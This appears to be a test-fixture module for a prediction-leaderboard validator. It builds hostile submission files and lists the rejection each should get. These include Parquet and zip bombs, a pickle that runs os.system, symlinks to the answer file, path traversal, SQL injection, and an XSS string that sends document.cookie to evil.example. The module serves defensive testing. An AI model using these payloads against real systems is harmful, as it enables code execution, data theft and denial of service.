"""Submissions of prediction files that try something: each is named for it, and says how it ends.

A case makes a file in a folder; beside it stand a part of the sentence that refuses it, and
what the declaration changes. An end of None means that it is harmless: taken, as text.
"""

import json
import os
import struct
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

from leakboard.schemas import Release, default_truth
from leakboard.schemas.prediction_header import METADATA_KEY

from ..submitting import drawn, header_of, write_file

CANARY = "canary-7d1f"  # stands in a truth file, and must be seen nowhere else
Make = Callable[[Path, Release], Path]


@dataclass(frozen=True)
class Case:
    make: Make
    end: str | None
    declared: dict[str, Any] = field(default_factory=dict)


def sound(folder: Path, release: Release) -> Path:
    return write_file(folder / "sound.parquet", release, seed=7)


# Numbers -----------------------------------------------------------------------------------------


def value(number: float) -> Make:
    """One number of one row is this one."""

    def make(folder: Path, release: Release) -> Path:
        values = drawn(len(release.asked_ids("test")))
        values[5, 1] = number
        return write_file(folder / "value.parquet", release, values=values)

    return make


def column(of: Callable[[int], pa.Array]) -> Make:
    """The column `probabilities` is something else."""

    def make(folder: Path, release: Release) -> Path:
        ids = release.asked_ids("test")
        return table(folder, release, {"sample_id": pa.array(ids), "probabilities": of(len(ids))})

    return make


def table(
    folder: Path, release: Release, columns: dict[str, Any], header: Any = None, **options: Any
) -> Path:
    """A Parquet file with any columns, and a header that is sound unless it is given."""
    content = header_of(release).model_dump_json().encode() if header is None else header
    path = folder / "table.parquet"
    made = pa.table(columns).replace_schema_metadata({METADATA_KEY: content})
    pq.write_table(made, path, **options)
    return path


def pairs(count: int, numbers: pa.DataType | None = None) -> pa.Array:
    return pa.array([[0.5, 0.5]] * count, pa.list_(numbers or pa.float32(), 2))


# Ids ---------------------------------------------------------------------------------------------


def first_id(text: str) -> Make:
    """The first id is this text."""

    def make(folder: Path, release: Release) -> Path:
        ids = [text, *release.asked_ids("test")[1:]]
        return write_file(folder / "ids.parquet", release, ids=ids)

    return make


def ids(change: Callable[[list[str]], Sequence[str]]) -> Make:
    def make(folder: Path, release: Release) -> Path:
        return write_file(
            folder / "ids.parquet", release, ids=change(list(release.asked_ids("test")))
        )

    return make


def null_id(folder: Path, release: Release) -> Path:
    given = [None, *release.asked_ids("test")[1:]]
    return table(
        folder, release, {"sample_id": pa.array(given), "probabilities": pairs(len(given))}
    )


def bytes_as_id(folder: Path, release: Release) -> Path:
    given = [b"\xff\xfe" * 16, *(name.encode() for name in release.asked_ids("test")[1:])]
    text = pa.array(given).view(pa.string())
    return table(folder, release, {"sample_id": text, "probabilities": pairs(len(given))})


# Bombs -------------------------------------------------------------------------------------------


def ten_million_rows(folder: Path, release: Release) -> Path:
    count = 10_000_000
    zeros = pa.array(np.zeros(2 * count, np.float32))
    columns = {
        "sample_id": pa.DictionaryArray.from_arrays(pa.array(np.zeros(count, np.int8)), ["a"]),
        "probabilities": pa.FixedSizeListArray.from_arrays(zeros, 2),
    }
    return table(folder, release, columns, compression="zstd")


def long_id_repeated(folder: Path, release: Release) -> Path:
    """A small file whose ids would take 36 times 48 MiB."""
    count = len(release.asked_ids("test"))
    text = pa.DictionaryArray.from_arrays(pa.array(np.zeros(count, np.int8)), ["a" * (48 * 2**20)])
    columns = {"sample_id": text.cast(pa.string()), "probabilities": pairs(count)}
    return table(folder, release, columns, compression="zstd")


def long_id_said_to_be_short(folder: Path, release: Release) -> Path:
    """The same, with a footer that says it holds a thousand bytes: the page knows better."""
    path = long_id_repeated(folder, release)
    content = path.read_bytes()
    start = len(content) - 8 - struct.unpack("<I", content[-8:-4])[0]
    footer, honest = content[start:], pq.read_metadata(path).row_group(0)
    for size in {honest.total_byte_size, honest.column(0).total_uncompressed_size}:
        written = zigzag(size)
        footer = footer.replace(written, zigzag(1000, len(written)))
    path.write_bytes(content[:start] + footer)
    assert pq.read_metadata(path).row_group(0).total_byte_size == 1000
    return path


def zigzag(number: int, length: int = 1) -> bytes:
    """A number as Thrift's compact protocol writes it, in at least so many bytes."""
    number, digits = 2 * number, bytearray()
    while number > 127 or len(digits) < length - 1:
        digits.append(number & 127 | 128)
        number >>= 7
    return bytes([*digits, number])


def many_columns(folder: Path, release: Release) -> Path:
    return table(folder, release, {f"c{number}": pa.array([0]) for number in range(3000)})


def deep_column(folder: Path, release: Release) -> Path:
    kind = pa.float32()
    for _ in range(60):
        kind = pa.list_(kind)
    columns = {"sample_id": pa.array(["a"]), "probabilities": pa.array([None], kind)}
    return table(folder, release, columns)


def huge_lists(folder: Path, release: Release) -> Path:
    """Lists of a hundred million numbers each, all of them null."""
    kind = pa.list_(pa.float32(), 100_000_000)
    columns = {"sample_id": pa.array([], pa.string()), "probabilities": pa.array([], kind)}
    return table(folder, release, columns)


def padded(folder: Path, release: Release) -> Path:
    """Sound but for a third column, a gigabyte of zeros."""
    count = len(release.asked_ids("test"))
    blob = pa.DictionaryArray.from_arrays(pa.array(np.zeros(count, np.int8)), [b"\0" * 2**20])
    columns = {
        "sample_id": pa.array(release.asked_ids("test")),
        "probabilities": pairs(count),
        "blob": blob,
    }
    return table(folder, release, columns, compression="zstd")


# What is no prediction file ----------------------------------------------------------------------


def content(of: bytes) -> Make:
    def make(folder: Path, release: Release) -> Path:
        path = folder / "content.parquet"
        path.write_bytes(of)
        return path

    return make


def cut_short(folder: Path, release: Release) -> Path:
    path = sound(folder, release)
    path.write_bytes(path.read_bytes()[:-200])
    return path


def lying_footer_length(folder: Path, release: Release) -> Path:
    path = sound(folder, release)
    path.write_bytes(path.read_bytes()[:-8] + struct.pack("<I", 2**31 - 1) + b"PAR1")
    return path


def footer_a_byte_short(folder: Path, release: Release) -> Path:
    """Found by fuzzing: the reader's reason quoted bytes of the file."""
    path = sound(folder, release)
    content = path.read_bytes()
    path.write_bytes(content[:-9] + content[-8:])
    return path


def zip_bomb(folder: Path, release: Release) -> Path:
    path = folder / "zip.parquet"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../etc/passwd", b"\0" * 2**26)
    return path


class Pickled:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (f"touch {CANARY}",)


PICKLE = b"cposix\nsystem\n(Vtouch canary-7d1f\ntR."  # what a pickle of Pickled() does


def pickled_extension_type(folder: Path, release: Release) -> Path:
    """Arrow once unpickled the types that a file names."""
    metadata = {
        "ARROW:extension:name": "arrow.py_extension_type",
        "ARROW:extension:metadata": PICKLE.decode(),
    }
    count = len(release.asked_ids("test"))
    kind = pa.field("probabilities", pa.list_(pa.float32(), 2), metadata=metadata)
    schema = pa.schema([pa.field("sample_id", pa.string()), kind])
    made = pa.table([pa.array(release.asked_ids("test")), pairs(count)], schema=schema)
    path = folder / "extension.parquet"
    header = {METADATA_KEY: header_of(release).model_dump_json().encode()}
    pq.write_table(made.replace_schema_metadata(header), path)
    return path


def broken_arrow_schema(folder: Path, release: Release) -> Path:
    """Sound, but for noise in the Arrow schema that the footer holds."""
    path = sound(folder, release)
    content = bytearray(path.read_bytes())
    start = content.index(b"ARROW:schema") + 60
    content[start : start + 64] = b"/" * 64
    path.write_bytes(content)
    return path


# The truth ---------------------------------------------------------------------------------------


def truth_file(release: Release) -> Path:
    return next(default_truth(release.folder).glob("test-*.parquet"))


def link_to_the_truth(folder: Path, release: Release) -> Path:
    path = folder / "link.parquet"
    path.symlink_to(truth_file(release))
    return path


def truth_itself(folder: Path, release: Release) -> Path:
    path = folder / "truth.parquet"
    os.link(truth_file(release), path)
    return path


def columns_in_the_truth(folder: Path, release: Release) -> Path:
    """A footer without data, whose columns are said to lie in the file with the answers."""
    own = pq.read_metadata(sound(folder, release))
    own.set_file_path(os.path.relpath(truth_file(release), folder))
    path = folder / "elsewhere.parquet"
    own.write_metadata_file(path)
    return path


def endless_device(folder: Path, release: Release) -> Path:
    path = folder / "device.parquet"
    path.symlink_to("/dev/zero")
    return path


def pipe_that_nobody_writes(folder: Path, release: Release) -> Path:
    path = folder / "pipe.parquet"
    os.mkfifo(path)
    return path


def folder_of_that_name(folder: Path, release: Release) -> Path:
    path = folder / "folder.parquet"
    path.mkdir()
    return path


# Headers -----------------------------------------------------------------------------------------


def header(**changes: Any) -> Make:
    """The header says something else; it need not be what a header may say."""

    def make(folder: Path, release: Release) -> Path:
        fields = json.loads(header_of(release).model_dump_json()) | changes
        return raw_header(json.dumps(fields).encode())(folder, release)

    return make


def raw_header(text: bytes) -> Make:
    def make(folder: Path, release: Release) -> Path:
        ids = release.asked_ids("test")
        columns = {"sample_id": pa.array(ids), "probabilities": pairs(len(ids))}
        return table(folder, release, columns, header=text)

    return make


NOT_FINITE = "row 5 "
NO_DISTRIBUTION = ": probabilities that are negative or do not sum to 1"
NO_PARQUET = "not a readable Parquet file"
NO_FILE = "not a plain file but a link or a folder"
STRANGER = "1 ids are not asked for, the first is "
SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"
MARKDOWN = "[x](javascript:alert(1)) ![y](//evil.example/z) $\\input{/etc/passwd}$ :red[r]"
SQL = "'); DROP TABLE submissions; DELETE FROM ledger; --"
LINES = {"authors": [SQL, SCRIPT, MARKDOWN], "compute": SQL, "citation": f"{SCRIPT}\n{SQL}"}

CASES: dict[str, Case] = {
    "nan": Case(value(np.nan), NOT_FINITE),
    "infinity": Case(value(np.inf), NOT_FINITE),
    "minus infinity": Case(value(-np.inf), NOT_FINITE),
    "negative probability": Case(value(-0.5), NO_DISTRIBUTION),
    "sum overflows": Case(value(3e38), NO_DISTRIBUTION),
    "one class": Case(
        column(lambda n: pa.array([[1.0]] * n, pa.list_(pa.float32(), 1))),
        "must hold 2 probabilities",
    ),
    "three classes": Case(
        column(lambda n: pa.array([[1.0, 0, 0]] * n, pa.list_(pa.float32(), 3))),
        "must hold 2 probabilities",
    ),
    "double precision": Case(column(lambda n: pairs(n, pa.float64())), "list of float, but is"),
    "half precision": Case(column(lambda n: pairs(n, pa.float16())), "list of float, but is"),
    "text for numbers": Case(
        column(lambda n: pa.array([["0.5", "0.5"]] * n, pa.list_(pa.string(), 2))), "but is"
    ),
    "ragged lists": Case(
        column(lambda n: pa.array([[0.5] * (1 + i % 3) for i in range(n)], pa.list_(pa.float32()))),
        "must be a fixed-size list of float, but is list",
    ),
    "scalars": Case(column(lambda n: pa.array([0.5] * n, pa.float32())), "must be a fixed-size"),
    "nulls in a list": Case(
        column(lambda n: pa.array([[0.5, None]] * n, pa.list_(pa.float32(), 2))), "holds nulls"
    ),
    "null rows": Case(
        column(lambda n: pa.array([None] * n, pa.list_(pa.float32(), 2))), "holds nulls"
    ),
    "no rows": Case(ids(lambda given: given[:0]), "36 of 36 ids have no prediction"),
    "a row too few": Case(ids(lambda given: given[1:]), "1 of 36 ids have no prediction"),
    "the same id twice": Case(ids(lambda given: [*given, given[0]]), "occurs more than once"),
    "one id for all": Case(ids(lambda given: given[:1] * len(given)), "occurs more than once"),
    "null id": Case(null_id, "sample_id holds nulls"),
    "id that is not text": Case(bytes_as_id, NO_PARQUET),
    "id with a change of direction": Case(first_id("\u202efdp.exe"), f"{STRANGER}'\\u202efdp.exe'"),
    "id with zero width": Case(first_id("a\u200bb"), f"{STRANGER}'a\\u200bb'"),
    "id that moves the cursor": Case(first_id("\x1b[2J\x1b[1;1H"), f"{STRANGER}'\\x1b[2J"),
    "id of a megabyte": Case(first_id("a" * 2**20), "an id is longer than 256 bytes"),
    "id that climbs": Case(first_id("../../secret.key"), f"{STRANGER}'../../secret.key'"),
    "id with SQL": Case(first_id(SQL), STRANGER),
    "id with a script": Case(first_id(SCRIPT), STRANGER),
    "ten million rows": Case(ten_million_rows, "10000000 rows, but 'test' has 36 images"),
    "id of 48 MiB for every row": Case(long_id_repeated, "bytes of content, but the answers take"),
    "the same with a lying footer": Case(
        long_id_said_to_be_short, "an id is longer than 256 bytes"
    ),
    "three thousand columns": Case(many_columns, "expected the columns ['sample_id'"),
    "lists in lists": Case(deep_column, "Parquet schema too deeply nested"),
    "lists of a hundred million": Case(huge_lists, "but holds 100000000"),
    "a column of zeros beside": Case(padded, "expected the columns ['sample_id'"),
    "nothing": Case(content(b""), NO_PARQUET),
    "a web page": Case(content(SCRIPT.encode()), NO_PARQUET),
    "a pickle": Case(content(PICKLE), NO_PARQUET),
    "a pickle in Parquet's frame": Case(content(b"PAR1" + PICKLE + b"PAR1"), NO_PARQUET),
    "a zip bomb": Case(zip_bomb, NO_PARQUET),
    "a file cut short": Case(cut_short, NO_PARQUET),
    "a footer that is a byte short": Case(footer_a_byte_short, NO_PARQUET),
    "a footer of two gigabytes": Case(lying_footer_length, NO_PARQUET),
    "a type that is a pickle": Case(pickled_extension_type, None),
    "a schema of noise": Case(broken_arrow_schema, NO_PARQUET),
    "the truth itself": Case(truth_itself, "the metadata has no 'leakboard' header"),
    "a link to the truth": Case(link_to_the_truth, NO_FILE),
    "columns that lie in the truth": Case(columns_in_the_truth, NO_PARQUET),
    "an endless device": Case(endless_device, NO_FILE),
    "a pipe that nobody writes": Case(pipe_that_nobody_writes, NO_FILE),
    "a folder": Case(folder_of_that_name, NO_FILE),
    "no header": Case(raw_header(b""), "the 'leakboard' header is not JSON"),
    "a deep header": Case(raw_header(b"[" * 60_000), "the 'leakboard' header is not JSON"),
    "a long header": Case(raw_header(b" " * 2**20), "header is over 65536 bytes"),
    "a number without end": Case(raw_header(b'{"asked": ' + b"9" * 5000 + b"}"), "is not JSON"),
    "an infinite option": Case(header(options={"x": float("inf")}), "header: options"),
    "an option that is not a number": Case(header(options={"x": float("nan")}), "header: options"),
    "an attack of ten thousand letters": Case(header(attack="a" * 10_000), "header: attack"),
    "asked beyond all integers": Case(header(asked=10**30), "asked about 1000000"),
    "asked about more than there are": Case(header(asked=10**9), "asked about 1000000000 images"),
    "asked about none": Case(header(asked=0), "header: asked"),
    "the reserve": Case(header(split="reserve"), "header: split"),
    "a split that climbs": Case(header(split="../truth/test"), "header: split"),
    "training data": Case(header(split="auxiliary"), "predictions of 'auxiliary' are not ranked"),
    "another release": Case(header(fingerprint="a" * 64), "made for the release aaaaaaaaaaaa…"),
    "a yardstick": Case(header(ceiling=True), "a yardstick that reads the inputs is not an attack"),
    "nothing but wrong fields": Case(
        header(split=[], track=[], attack=[], options=[], setting=[], asked=[], ceiling=[]),
        "header: options",
    ),
    "a time that overflows": Case(header(time="+292277026596-12-04T15:30:08Z"), "key 'time'"),
    "a schema from the future": Case(header(schema_version=2), "header: schema_version"),
    "another setting than declared": Case(header(setting="whitebox"), "setting: the submission"),
    "a budget that is not the declared": Case(header(auxiliary_records=1), "auxiliary_records: "),
    "name with a script": Case(sound, "name: must be at most 80 letters", {"name": SCRIPT}),
    "name with SQL": Case(sound, "name: must be at most 80 letters", {"name": SQL}),
    "name in Cyrillic that looks Latin": Case(sound, "name: must be", {"name": "lin\u0435ar"}),
    "name with a change of direction": Case(sound, "name: must be", {"name": "probe\u202egnp"}),
    "name with zero width": Case(sound, "name: must be", {"name": "pro\u200bbe"}),
    "name that climbs": Case(sound, "name: must be", {"name": "../../board/results/x"}),
    "name of a megabyte": Case(sound, "name: must be", {"name": "a" * 2**20}),
    "author with a change of direction": Case(sound, "authors.0: ", {"authors": ["a\u202eb"]}),
    "author in two lines": Case(sound, "authors.0: ", {"authors": ["a\nb"]}),
    "paper that is a script": Case(sound, "paper: ", {"paper": "javascript:alert(1)"}),
    "seed beyond all integers": Case(sound, "seeds.0: ", {"seeds": [10**400]}),
    "SQL, scripts and Markdown as text": Case(sound, None, LINES),
    "code": Case(sound, "content: ", {"content": {"kind": "code"}}),
}
